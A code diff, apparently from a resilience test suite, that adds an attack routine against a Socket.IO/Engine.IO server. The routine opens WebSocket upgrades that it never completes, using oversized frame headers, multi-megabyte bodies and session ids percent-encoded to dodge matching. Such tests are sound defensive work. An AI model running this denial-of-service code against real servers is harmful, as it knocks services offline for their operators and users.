@@ -143,6 +143,21 @@ export const ATTACKS: Record<string, Attack> = {
       await pause(20)
     })
   },
+  'upgrades that are never completed, behind connections however they are named': async (stranger, goesOn) => {
+    const [begun, rest] = [frame('x'.repeat(8_400_000)).subarray(0, 14), Buffer.alloc(8_000_000, 'a')]
+    await many(10, goesOn, async index => {
+      const sid = await stranger.poll()
+      const named = index % 2 === 0 ? sid : sid.replace(/^./, first => `%${first.charCodeAt(0).toString(16)}`)
+      const socket = await stranger.webSocket(`&sid=${named}`)
+      await stranger.write(socket, begun)
+      await stranger.write(socket, rest)
+      const poll = await stranger.open()
+      await stranger.write(poll, post(`/socket.io/?EIO=4&transport=polling&sid=${named}`, { 'content-length': rest.length }))
+      await stranger.write(poll, rest)
+      await pause(100)
+      poll.destroy()
+    })
+  },
   'lists that are not read': async (stranger, goesOn) => {
     const session = await stranger.session()
     if (session === undefined) return
